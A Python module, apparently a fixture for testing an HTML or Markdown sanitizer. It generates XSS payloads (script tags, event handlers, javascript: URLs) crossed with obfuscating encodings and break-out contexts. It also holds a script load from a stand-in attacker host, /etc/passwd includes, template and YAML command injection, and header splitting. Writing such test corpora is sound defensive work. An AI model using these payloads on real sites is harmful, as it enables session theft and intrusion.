"""Payloads as a table: what an enemy wants × how it is hidden × where it breaks out of.

What runs sets `window.ran`; what is only markup leaves an <x-mark>; what leads away asks for jahat.example.
"""

from __future__ import annotations

import html
import itertools
import os
from collections.abc import Callable, Iterator
from urllib.parse import quote

_RUN = "window.ran=1"
_ON = "<{0} {1}=" + _RUN + ">"

# By what it wants.
FAMILIES: dict[str, tuple[str, ...]] = {
    "scripts": (
        f"<script>{_RUN}</script>",
        f"<script/x>{_RUN}</script>",
        f"<ScRiPt>{_RUN}</sCrIpT>",
        f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
        f"<script\x0c>{_RUN}</script>",
        f"<script type=module>{_RUN}</script>",
        "<script src=//jahat.example/x.js></script>",
        f"<script src='data:text/javascript,{_RUN}'></script>",
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><script href='data:text/javascript,{_RUN}'/></svg>",
        f"<math><mtext><script>{_RUN}</script></mtext></math>",
        f"<noscript><p title='</noscript><script>{_RUN}</script>'></noscript>",
        f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    ),
    "handlers": tuple(
        _ON.format(element, event)
        for element, event in (
            ("img src=x", "onerror"),
            ("img src=x", "OnErRoR"),
            ("img/src=x", "\x0conerror"),
            ("svg", "onload"),
            ("svg/", "onload"),
            ("body", "onpageshow"),
            ("details open", "ontoggle"),
            ("input autofocus", "onfocus"),
            ("select autofocus", "onfocus"),
            ("textarea autofocus", "onfocus"),
            ("p tabindex=0 autofocus", "onfocus"),
            ("video src=x", "onerror"),
            ("audio src=x", "onerror"),
            ("video><source", "onerror"),
            ("object data=x", "onerror"),
            ("link rel=stylesheet href=x", "onerror"),
            ("style", "onload"),
            ("marquee", "onstart"),
            ("svg><animate attributeName=x dur=1s", "onbegin"),
            ("svg><set attributeName=x", "onbegin"),
            ("svg><image href=x", "onerror"),
            ("a href=# style=position:fixed;inset:0", "onmouseover"),
            ("xss contenteditable autofocus", "onfocus"),
            ("iframe src=about:blank", "onload"),
        )
    ),
    "addresses": (
        f"javascript:{_RUN}",
        f"JaVaScRiPt:{_RUN}",
        f"java\tscript:{_RUN}",
        f"java\nscript:{_RUN}",
        f"\x01javascript:{_RUN}",
        f"javascript&colon;{_RUN}",
        f"&#x6A&#x61&#x76&#x61script:{_RUN}",
        f"javascript://%0a{_RUN}",
        f"vbscript:{_RUN}",
        f"data:text/html,<script>{_RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=",
        "view-source:https://jahat.example/",
        f"feed:javascript:{_RUN}",
        f"https://a.example/\" onmouseover=\"{_RUN}\" x=\"",
        f"https://a.example/' onmouseover='{_RUN}' x='",
        "https://a.example/><x-mark>",
        "//jahat.example/%2e%2e",
    ),
    "leading away": (
        "<meta http-equiv=refresh content=0;url=//jahat.example/>",
        "<meta content='0;url=https://jahat.example/' http-equiv='&#114;efresh'>",
        "<base href=//jahat.example/>",
        "<iframe src=//jahat.example/></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.ran=1&lt;/script&gt;'></iframe>",
        "<object data=//jahat.example/></object>",
        "<embed src=//jahat.example/>",
        "<link rel=prerender href=//jahat.example/>",
        "<link rel=manifest href=//jahat.example/>",
        "<img src=//jahat.example/x.png>",
        "<img srcset='//jahat.example/x.png 1x'>",
        "<video poster=//jahat.example/x.png>",
        "<style>*{background:url(//jahat.example/)}</style>",
        "<p style=background:url(//jahat.example/)>",
        "<form action=//jahat.example/><input autofocus><input type=image src=//jahat.example/>",
        "<svg><use href=//jahat.example/x.svg#x>",
        "<svg><image href=//jahat.example/x.png>",
        "<table background=//jahat.example/x.png>",
    ),
    "markup": (
        "<x-mark>",
        "</x-mark><x-mark a=b/>",
        "<x-mark\n>",
        "<x-mark/",
        "<x-mark ",
        "<\x00x-mark>",
        "<svg><title><x-mark></title></svg>",
        "<svg><foreignObject><x-mark></foreignObject></svg>",
        "<math><mi><x-mark></mi></math>",
        "<select><option><x-mark></select>",
        "<table><x-mark>",
        "<xmp></xmp><x-mark>",
        "<plaintext><x-mark>",
        "<?x?><x-mark>",
        "<!x-mark><x-mark>",
        "<!--><x-mark>-->",
        "<!DOCTYPE x><x-mark>",
        "＜x-mark＞<x-mark>",
        "\ufeff<x-mark>",
        "\u2028<x-mark>\u2029",
        "\u0130<x-mark>\u0131",
        "\u202e<x-mark>\u202c",
    ),
    "Markdown": (
        "`a\n<x-mark>\nb`",
        "``\n<x-mark>\n``",
        "a `b` <x-mark> `c",
        "\\`<x-mark>\\`",
        "~~~\n<x-mark>\n~~~",
        "    <x-mark>",
        "\t<x-mark>",
        "<div markdown=1>\n*<x-mark>*\n</div>",
        "*<x-mark>* **<x-mark>** __<x-mark>__",
        f"[x](https://a.example){{: onclick=\"{_RUN}\" }}",
        f"# a {{: onmouseover=\"{_RUN}\" }}",
        f"a\n{{: onmouseover=\"{_RUN}\" }}",
        "[x]\n\n[x]: javascript:window.ran=1",
        "[x]\n\n[x]: <//jahat.example> \"<x-mark>\"",
        "![<x-mark>](x.png)",
        "![x](x.png \"<x-mark>\")",
        "[![x](javascript:window.ran=1)](javascript:window.ran=1)",
        "[<x-mark>](https://a.example)",
        "[a](https://a.example/?<x-mark>)",
        "[a](<https://a.example/<x-mark>>)",
        "<https://a.example/\"onclick=\"window.ran=1>",
        "<a@b.c\"onclick=\"window.ran=1>",
        "[^1]\n\n[^1]: <x-mark>",
        "*[HTML]: <x-mark>\n\nHTML",
        "x\n: <x-mark>",
        "??? situs \"<x-mark>\"\n    <x-mark>",
        "--8<-- \"/etc/passwd\"",
        "$$<x-mark>$$ \\(<x-mark>\\)",
        ":x-mark: :material-x: [TOC]",
        "==<x-mark>== ^^<x-mark>^^ ~~<x-mark>~~ ++<x-mark>++",
        "- [ ] <x-mark>\n- [x] <x-mark>",
        "| <x-mark> |\n|:-:|\n| <x-mark> |",
    ),
    "templates": (
        "{{ config }} {{ ''.__class__.__mro__ }}",
        "{% include '/etc/passwd' %}<x-mark>",
        "{% endraw %}<x-mark>{# x #}",
        "{{ '<x-mark>' | safe }}",
        "${{ github.token }} $(id) `id`",
        "<%= 7*191 %> #{7*191} @(7*191)",
        "#raw(read(\"/etc/passwd\")) #let x = 1",
        "!!python/object/apply:os.system [id]",
        "::error::x %0A::set-output name=x::y",
        "\x1b]0;x\x07\x1b[31m<x-mark>",
        "x\r\nSet-Cookie: a=b\r\n\r\n<x-mark>",
    ),
}  # fmt: skip

# By how it is hidden from whoever looks for it.
HIDDEN: tuple[Callable[[str], str], ...] = (
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: text.replace("<", "&#60;").replace(">", "&#62;"),
    lambda text: text.replace("<", "&#x3c").replace(">", "&#x3e"),
    lambda text: quote(text, safe=""),
    lambda text: quote(quote(text, safe=""), safe=""),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\\<").replace(">", "\\>"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace(" ", "\u00a0"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
)
# By where it would break out of.
AROUND: tuple[str, ...] = (
    '">{0}',
    "'>{0}",
    "`{0}`",
    "kata\n\n{0}\n\nkata",
    "```\n{0}\n```",
    "~~~ x\n```\n{0}",
    "[{0}](https://a.example)",
    "[kata]({0})",
    "![kata]({0})",
    "[kata](<{0}>)",
    '[kata](https://a.example "{0}")',
    "| a |\n|---|\n| {0} |",
    "> {0}",
    "1. kata\n\n    {0}",
    "!!! note \"{0}\"\n    {0}",
    "</title></textarea></style></script></template></noscript>{0}",
    "-->{0}<!--",
    "]]>{0}",
    "*{0}*",
    "\\{0}",
)  # fmt: skip
# Each of a family is tried as it is, and so often hidden and broken out; all ways have their turn.
_TURNS = int(os.environ.get("PAYLOAD_TURNS", "1"))


def made() -> Iterator[str]:
    """Every payload of the table, each once."""
    hidden, around = itertools.cycle(HIDDEN), itertools.cycle(AROUND)
    cores = list(itertools.chain.from_iterable(FAMILIES.values()))
    turned = (
        text
        for core in cores
        for _ in range(_TURNS)
        for text in (next(hidden)(core), next(around).format(core))
    )
    yield from dict.fromkeys((*cores, *turned))
